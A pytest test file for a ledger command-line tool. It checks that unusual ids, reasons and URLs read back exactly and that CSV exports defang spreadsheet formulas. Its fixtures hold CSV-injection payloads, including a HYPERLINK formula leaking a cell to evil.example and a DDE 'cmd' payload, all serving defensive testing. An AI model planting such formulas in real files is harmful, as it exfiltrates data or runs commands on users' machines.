"""Accepted means readable, forever, exactly: any text a write accepts comes back unchanged
from every read and export of the command line, on SQLite and PostgreSQL; text no store can keep
is refused at the door (exit 2, nothing written)."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from cli_process import MODULE, Run, custody, custody_all, error_line, ok

from custody._output import undefanged, write_csv
from ledger import Checkout, Command, Heartbeat, Ledger, Quarantine, RegisterProfile, Release
from ledger._domain.model import Outcome, Role
from ledger._domain.policies import ReleaseReport
from ledger._domain.profile import Context
from ledger._domain.view import availability_of

# Texts that look like a missing value, a time, a formula: each is an ordinary id or reason.
PROFILE = "NaT"
ACCOUNT = "<NA>"
PROXY = "None"
WORKERS = ("2026-12-02T10:00:00-worker-7", "2026-12-02T10:00:00-worker-8")
RUN, TASK, STEP = "nan", "null", "None"
URL = '=HYPERLINK("http://evil.example/?leak="&A1)'
REASONS = ("NaT", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tindented", "'=quoted")


@pytest.fixture(params=["sqlite", "postgresql"])
def store(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        url = f"sqlite:///{tmp_path / 'custody.db'}"
    else:
        url = request.getfixturevalue("pg_url")
    ok(custody("init", cwd=tmp_path, store=url))
    return url


def _cli(store: str, tmp_path: Path, *args: str) -> Run:
    return ok(custody(*args, cwd=tmp_path, store=store))


def _hostile_history(store: str, tmp_path: Path) -> None:
    """A profile, account and proxy named like missing values; two workers whose ids start
    like a time; a step, a URL and reasons that look like formulas."""
    _cli(store, tmp_path, "register", PROFILE, "--account", ACCOUNT, "--proxy", PROXY)
    for token, (worker, reason) in enumerate(zip(WORKERS, REASONS[:2], strict=True), 1):
        lease = f"lease-{token}@{PROFILE}"
        _cli(store, tmp_path, "checkout", PROFILE, "--worker", worker, "--run", RUN, "--task", TASK)
        _cli(store, tmp_path, "heartbeat", lease, "--token", str(token), "--step", STEP,
             "--url", URL)  # fmt: skip
        _cli(store, tmp_path, "release", lease, "--token", str(token), "--outcome",
             "expected_failure", "--reason", reason, "--final-url", URL)  # fmt: skip


def test_texts_that_look_like_missing_values_read_back_exactly(store: str, tmp_path: Path) -> None:
    """NaT, <NA>, None, nan, null are ordinary ids, names and steps: timeline (json, csv,
    table), who, why and usage (json, table) return them exactly, and no read fails."""
    _hostile_history(store, tmp_path)
    rows = _cli(store, tmp_path, "--json", "timeline", PROFILE).json()
    assert {r["profile_id"] for r in rows} == {PROFILE}
    assert {r["account_id"] for r in rows} == {ACCOUNT}
    leased = [r for r in rows if r["lease_id"] is not None]
    assert {(r["worker_id"], r["run_id"]) for r in leased} == {(w, RUN) for w in WORKERS}
    beats = [r for r in rows if r["event_type"] == "lease_heartbeat"]
    assert [(r["step"], r["url"]) for r in beats] == [(STEP, URL)] * 2
    released = [r["reason"] for r in rows if r["event_type"] == "lease_release_requested"]
    assert released == list(REASONS[:2])

    table = _cli(store, tmp_path, "timeline", PROFILE).out
    assert all(worker in table for worker in WORKERS)
    who = _cli(store, tmp_path, "--json", "who", PROFILE).json()
    assert (who["lease"]["worker_id"], who["lease"]["run_id"]) == (WORKERS[1], RUN)
    assert who["lease"]["task_type"] == TASK
    why = _cli(store, tmp_path, "--json", "why", PROFILE).json()
    assert (why["profile_id"], why["account_id"], why["proxy_id"]) == (PROFILE, ACCOUNT, PROXY)

    usage = _cli(store, tmp_path, "--json", "usage", "--account", ACCOUNT).json()
    assert [(u["profile_id"], u["worker_id"], u["task_type"]) for u in usage] == [
        (PROFILE, w, TASK) for w in WORKERS
    ]
    usage_table = _cli(store, tmp_path, "usage", "--account", ACCOUNT).out.splitlines()
    assert [next(w for w in WORKERS if w in line) for line in usage_table[1:]] == list(WORKERS)


def test_csv_exports_defang_formulas_and_give_every_text_back(store: str, tmp_path: Path) -> None:
    """A CSV cell a spreadsheet would run as a formula (= + - @ tab CR) starts with a quote;
    undoing that gives every text back exactly. JSON and parquet keep the exact values."""
    _hostile_history(store, tmp_path)
    text = _cli(store, tmp_path, "timeline", PROFILE, "--format", "csv").out
    cells = list(csv.DictReader(io.StringIO(text)))
    urls = {c["url"] for c in cells if c["event_type"] == "lease_heartbeat"}
    assert urls == {"'" + URL}  # what a spreadsheet opens is text, not a formula
    for row in cells:
        assert not any(
            v.lstrip("'").startswith(("=", "+", "-", "@", "\t", "\r")) and not v.startswith("'")
            for v in row.values()
        ), row
    reasons = [undefanged(c["reason"]) for c in cells if c["event_type"].endswith("requested")]
    assert reasons == list(REASONS[:2])

    parquet = tmp_path / "t.parquet"
    _cli(store, tmp_path, "timeline", PROFILE, "--output", str(parquet), "--format", "parquet")
    frame = pd.read_parquet(parquet)
    assert set(frame.loc[frame["event_type"] == "lease_heartbeat", "url"]) == {URL}
    assert set(frame["profile_id"]) == {PROFILE}


def test_the_html_report_shows_the_texts_escaped_not_erased(store: str, tmp_path: Path) -> None:
    """The HTML report keeps ids that look like missing values (escaped, never shown as '-')."""
    _hostile_history(store, tmp_path)
    _cli(store, tmp_path, "quarantine", PROFILE, "--actor", "op", "--reason", "NaT")
    page = tmp_path / "report.html"
    _cli(store, tmp_path, "report", "--html", str(page))
    html = page.read_text()
    assert "<td>NaT</td>" in html  # the profile's row in the blocked table
    assert "&lt;NA&gt;" in html  # its account, escaped


def test_text_no_store_can_keep_is_refused_at_the_door(store: str, tmp_path: Path) -> None:
    """Bytes that are not UTF-8 (as a file name from os.listdir gives them) are bad input at
    the command line, naming the field, and nothing is written."""
    _cli(store, tmp_path, "register", "p", "--account", "a", "--proxy", "x")
    _cli(store, tmp_path, "checkout", "p", "--worker", "w", "--run", "r", "--task", "t")
    before = _events(store)
    for field, argv in (
        ("reason", [b"--reason", b"bad \xff name"]),
        ("url", [b"--final-url", b"https://x/\xfe"]),
    ):
        args = [b"release", b"lease-1@p", b"--token", b"1", b"--outcome", b"failure", *argv]
        run = subprocess.run(
            [os.fsencode(a) for a in MODULE] + args,
            cwd=tmp_path,
            env=dict(os.environ, CUSTODY_STORE=store),
            capture_output=True,
            timeout=60,
            check=False,
        )
        line = run.stderr.decode(errors="replace")
        assert run.returncode == 2, line
        assert f"invalid {field if field == 'reason' else 'final_url'}" in line, line
        assert "UTF-8" in line, line
    assert _events(store) == before


def test_a_profile_id_of_bytes_not_utf8_is_bad_input_naming_it_in_every_read(
    store: str, tmp_path: Path
) -> None:
    """A profile id given as bytes that are not UTF-8 (each passed to the process as those
    bytes) is refused by every command naming a profile as why refuses it: exit 2, one line
    naming profile_id, the JSON error object under --json, no file written. timeline's query
    failed to encode it, said as output that could not be written, exit 1, and under --json
    nothing on stdout (rev47)."""
    _cli(store, tmp_path, "register", "p", "--account", "a", "--proxy", "x")
    out = tmp_path / "t.csv"
    asked = []
    for bad in ("\udcff", "a\udced\udca0\udc80"):  # 0xff; an encoded surrogate (ED A0 80)
        asked += [
            ["timeline", bad],
            ["--json", "timeline", bad],
            ["timeline", bad, "--format", "csv", "--output", str(out)],
            ["--json", "timeline", bad, "--last", "3", "--format", "parquet", "--output", str(out)],
            ["--json", "replay", bad, "--at", "2026-01-01"],
            ["--json", "inspect", bad],
            ["--json", "who", bad],
            ["--json", "quarantine", bad, "--actor", "a", "--reason", "r"],
        ]
    before = _events(store)
    for args, run in zip(asked, custody_all(asked, cwd=tmp_path, store=store), strict=True):
        assert run.code == 2, (args, run)
        assert "invalid profile_id: must be 1-128 characters" in error_line(run), (args, run)
        if "--json" in args:
            assert run.json()["error"] == "InvalidInput", (args, run.out)
            assert run.json()["exit_code"] == 2
        else:
            assert run.out == "", (args, run.out)
    assert not out.exists()
    assert _events(store) == before


def test_nul_is_refused_by_the_api_naming_the_field(store: str) -> None:
    """A NUL character (which PostgreSQL's text cannot hold) is bad input in any text a
    caller gives, and nothing is written."""
    from ledger import InvalidInput

    with Ledger.open(store) as ledger:
        ledger.handle(RegisterProfile(profile_id="p", account_id="a", proxy_id="x"))
        lease = ledger.handle(Checkout(profile_id="p", worker_id="w", run_id="r", task_type="t"))
        before = ledger.store.event_count()
        lid = lease.lease_id
        attempts: list[tuple[str, Callable[[], Command[Any]]]] = [
            ("reason", lambda: Release(lease_id=lid, fencing_token=1, outcome="failure",
                                       reason="a\x00b")),
            ("url", lambda: Heartbeat(lease_id=lid, fencing_token=1, url="u\x00")),
            ("step", lambda: Heartbeat(lease_id=lid, fencing_token=1, step="s\x00")),
            ("reason", lambda: Quarantine(profile_id="p", actor="op", reason="r\x00")),
        ]  # fmt: skip
        for field, attempt in attempts:
            with pytest.raises(InvalidInput) as refused:
                ledger.handle(attempt())
            assert refused.value.field == field
            said = str(refused.value)  # ids and names refuse every control character
            assert "NUL" in said or "control characters" in said, said
        assert ledger.store.event_count() == before


def _events(store: str) -> int:
    with Ledger.open(store) as ledger:
        return ledger.store.event_count()


def test_an_event_stored_with_a_nul_before_the_door_refused_it_stays_readable(
    store: str, tmp_path: Path
) -> None:
    """A release reason holding NUL, stored by an older custody, no longer breaks every read
    of every profile: the read models show it escaped (\\x00), the events keep it."""
    _legacy_nul_release(store)
    for command in (
        ["why", "p"], ["who", "p"], ["timeline", "p"], ["timeline"], ["status"], ["fleet"],
        ["health"], ["checklist"], ["report", "--html", str(tmp_path / "r.html")],
        ["projections", "rebuild"], ["usage", "--account", "a"],
    ):  # fmt: skip
        _cli(store, tmp_path, *command)
    rows = _cli(store, tmp_path, "--json", "timeline", "p").json()
    said = [r["reason"] for r in rows if r["event_type"] == "lease_release_requested"]
    assert said == ["ValueError: a\\x00b"]
    with Ledger.open(store) as ledger:  # the event itself is unchanged
        assert "ValueError: a\x00b" in {e.envelope.reason for e in ledger.history("p")}


def _legacy_nul_release(store: str) -> None:
    """Append, through the store's port below the command door, what an older custody
    accepted: a release whose reason holds a NUL."""
    with Ledger.open(store) as ledger:
        ledger.handle(RegisterProfile(profile_id="p", account_id="a", proxy_id="x"))
        lease = ledger.handle(Checkout(profile_id="p", worker_id="w", run_id="r", task_type="t"))
        profile = ledger.store.load("p")
        assert profile is not None
        reason = "ValueError: a\x00b"
        ctx = Context("w", Role.WORKER, ledger.now(), "c1", "c1", "c1", reason)
        profile.release(lease.lease_id, 1, ReleaseReport(outcome=Outcome.FAILURE), ctx)
        ledger.store.save(profile, availability_of(profile))


def test_a_csv_cell_with_a_carriage_return_is_quoted_and_reads_back() -> None:
    """A bare carriage return inside a text is quoted like a newline, so a CSV reader gives
    the cell back whole (once it was written bare and the file could not be read)."""
    frame = pd.DataFrame({"url": ["https://x/\ra", "b\nc", "\rx"], "n": [1, 2, 3]})
    out = io.StringIO()
    write_csv(frame, out)
    assert out.getvalue().endswith("3\n")
    got = [undefanged(r["url"]) for r in csv.DictReader(io.StringIO(out.getvalue()))]
    assert got == ["https://x/\ra", "b\nc", "\rx"]


def test_a_text_that_reads_as_more_evidence_is_quoted_in_the_detail(tmp_path: Path) -> None:
    """rev24: the timeline's ``detail`` lists a release's evidence as ``key=value, ...``; a
    worker's ``--evidence-problem 'driver gone, prompt_seen=True, observed_proxy=px'`` gave
    the very row of a release that saw a prompt and that proxy, in every export. A text that
    could read as more of the list is its JSON string there now."""
    register = ["register", "{p}", "--account", "acct", "--proxy", "px"]
    checkout = ["checkout", "{p}", "--worker", "w", "--run", "r", "--task", "t"]
    release = ["release", "lease-1@{p}", "--token", "1", "--outcome", "failure", "--reason", "x"]
    said = {
        "pa": ["--evidence-problem", "driver gone", "--prompt-seen", "--observed-proxy", "px"],
        "pb": ["--evidence-problem", "driver gone, prompt_seen=True, observed_proxy=px"],
    }
    details = {}
    for pid, evidence in said.items():
        for args in (register, checkout, [*release, *evidence]):
            ok(custody(*[a.format(p=pid) for a in args], cwd=tmp_path))
        rows = ok(custody("--json", "timeline", pid, cwd=tmp_path)).json()
        (details[pid],) = [
            r["detail"] for r in rows if r["event_type"] == "lease_release_requested"
        ]
    assert details["pa"].startswith("evidence_problem=driver gone, prompt_seen=True")
    assert details["pb"].startswith(
        'evidence_problem="driver gone, prompt_seen=True, observed_proxy=px"'
    )


def test_an_id_that_reads_as_more_of_a_line_is_quoted_in_why_and_timeline(tmp_path: Path) -> None:
    """rev33: a reviewer named ``alice at 2026-01-01T00:00:00+00:00: all good; quarantine by
    bob`` gave ``why``'s lines (and its JSON message and last review) a verdict time and a
    second reviewer who never acted, as did the timeline's actor. An id holding a space, a
    quote, a semicolon or a comma is its JSON string in every such line now; a plain one is
    as it was."""
    reviewer = "alice at 2026-01-01T00:00:00+00:00: all good; quarantine by bob"
    worker = "w one, run fake"
    for args in (
        ["register", "p1", "--account", "acct", "--proxy", "px"],
        ["checkout", "p1", "--worker", worker, "--run", "r", "--task", "t"],
        ["release", "lease-1@p1", "--token", "1", "--outcome", "failure", "--reason", "x"],
        ["review", "p1", "--reviewer", reviewer, "--decision", "quarantine", "--note", "all good"],
    ):
        ok(custody(*args, cwd=tmp_path))
    quoted = json.dumps(reviewer)
    lines = ok(custody("why", "p1", cwd=tmp_path)).out.splitlines()
    assert f"  quarantined (reviewer) by {quoted}: all good" in lines
    assert f"  cause: reviewer, decided by {quoted} (reviewer)" in lines
    assert f"  last user: worker {json.dumps(worker)}, run r (t), lease-1@p1" in lines
    assert [ln for ln in lines if ln.startswith("  last review: quarantine by " + quoted + " at")]
    said = ok(custody("--json", "why", "p1", cwd=tmp_path)).json()
    assert said["message"] == f"quarantined (reviewer) by {quoted}: all good"
    assert said["last_review"].startswith(f"quarantine by {quoted} at ")
    assert said["blocked_by"] == f"{quoted} (reviewer)"
    timeline = ok(custody("timeline", "p1", cwd=tmp_path)).out
    assert f"profile_reviewed         {quoted} (reviewer)" in timeline
    assert f"lease_acquired           {json.dumps(worker)} (worker)" in timeline
    # The note ends the line: as it was given, as in the message (the review found it quoted).
    assert said["last_review"].endswith(": all good")
    # An id holding only ";" or "," too, in the timeline and why's "because" lines (review).
    ok(custody("register", "p2", "--account", "acct", "--proxy", "px", cwd=tmp_path))
    ok(custody("quarantine", "p2", "--actor", "ops;night,x", "--reason", "r", cwd=tmp_path))
    timeline = ok(custody("timeline", "p2", cwd=tmp_path)).out
    assert 'profile_quarantined      "ops;night,x" (operator)' in timeline
    # The fleet's stuck lines name the worker as one id (the review: "worker w one, run fake").
    fleet = ok(custody("fleet", cwd=tmp_path)).out
    assert f"worker {json.dumps(worker)}" in fleet


def test_a_step_or_url_of_a_dash_reads_apart_from_none_in_why_and_timeline(tmp_path: Path) -> None:
    """Review 262: a heartbeat's step and URL ``-`` showed in ``why`` as ``step that mutated
    the account: -`` and ``last URL: -``, as a run that mutated nothing and reached no page;
    a text that is the lines' mark for nothing is quoted, as the console's page shows it."""
    for args in (
        ["register", "p1", "--account", "acct", "--proxy", "px"],
        ["checkout", "p1", "--worker", "w1", "--run", "r", "--task", "t"],
        ["heartbeat", "lease-1@p1", "--token", "1", "--step", "-", "--mutating", "--url", "-"],
    ):
        ok(custody(*args, cwd=tmp_path))
    lines = ok(custody("why", "p1", cwd=tmp_path)).out.splitlines()
    assert '  last safe step: -; step that mutated the account: "-"' in lines
    assert [ln for ln in lines if ln.startswith('  last step: "-"; last URL: "-"; ')]
    timeline = ok(custody("timeline", "p1", cwd=tmp_path)).out
    assert 'step="-"  url="-"  mutating=True' in timeline


def test_an_account_or_proxy_that_reads_as_more_of_a_line_is_quoted_in_register_and_fleet(
    tmp_path: Path,
) -> None:
    """rev34: ``register q --account 'acme, proxy evil, policy strict_evidence' --proxy x``
    printed ``registered q: account acme, proxy evil, policy strict_evidence, proxy x, ...``,
    and the fleet's per-account line ``acme, proxy evil, ...: 1``. Each is its JSON string now,
    as ``why`` and the timeline quote ids; a plain one is as it was."""
    account, proxy = "acme, proxy evil, policy strict_evidence", "x y"
    run = ok(custody("register", "q", "--account", account, "--proxy", proxy, cwd=tmp_path))
    policy = "policy manual_review_on_unknown_state"
    said = f"registered q: account {json.dumps(account)}, proxy {json.dumps(proxy)}, {policy}\n"
    assert run.out == said
    run = ok(custody("register", "p", "--account", "plain", "--proxy", "px", cwd=tmp_path))
    assert run.out == f"registered p: account plain, proxy px, {policy}\n"
    lines = ok(custody("fleet", cwd=tmp_path)).out.splitlines()
    assert f"  {json.dumps(account)}: 1 (available 1)" in lines
    assert "  plain: 1 (available 1)" in lines
    lines = ok(custody("fleet", "--account", account, cwd=tmp_path)).out.splitlines()
    assert lines[0].startswith(f"fleet of account {json.dumps(account)}: 1 profiles")


def test_an_account_typed_with_an_escape_displays_apart_from_the_one_it_names(
    tmp_path: Path,
) -> None:
    """rev36: an account registered as ``acct`` U+200B ``17`` and another typed as the text
    ``acct\\u200b17`` (a backslash, then letters) both read ``acct\\u200b17`` in ``status``'s
    summary, ``fleet`` and the HTML report, and so did NFD ``café`` beside the typed
    ``cafe\\u0301``. A typed backslash that begins what reads as an escape is doubled now; a
    Windows path (``C:\\Users\\x``) still reads as itself."""
    accounts = {
        "acct\u200b17": "acct\\u200b17",
        "acct\\u200b17": "acct\\\\u200b17",
        "cafe\u0301": "cafe\\u0301",
        "cafe\\u0301": "cafe\\\\u0301",
        "C:\\Users\\x": "C:\\Users\\x",
    }
    for n, account in enumerate(accounts):
        ok(custody("register", f"p{n}", "--account", account, "--proxy", "x", cwd=tmp_path))
    summary = ok(custody("status", "--summary", cwd=tmp_path)).out.splitlines()
    fleet = ok(custody("fleet", cwd=tmp_path)).out.splitlines()
    ok(custody("report", "--html", "r.html", cwd=tmp_path))
    html = (tmp_path / "r.html").read_text()
    for shown in accounts.values():
        assert f"  {shown}: 1 (available 1)" in summary, summary
        assert f"  {shown}: 1 (available 1)" in fleet, fleet
        assert f"<td>{shown}</td>" in html
    alone = ok(custody("fleet", "--account", "acct\\u200b17", cwd=tmp_path)).out
    assert alone.startswith("fleet of account acct\\\\u200b17: 1 profiles"), alone
